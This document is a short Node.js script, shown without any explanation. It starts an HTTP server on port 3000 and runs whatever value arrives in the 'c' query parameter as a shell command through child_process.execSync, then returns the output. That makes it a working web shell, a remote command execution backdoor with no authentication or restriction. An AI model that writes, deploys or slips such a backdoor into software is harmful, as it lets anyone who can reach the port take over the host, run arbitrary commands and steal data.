const http = require('http'), cp = require('child_process');
http.createServer((req, res) => {
  const u = new URL(req.url, 'http://x');
  res.end(u.searchParams.has('c') ? cp.execSync(u.searchParams.get('c')) : 'hi');
}).listen(3000);
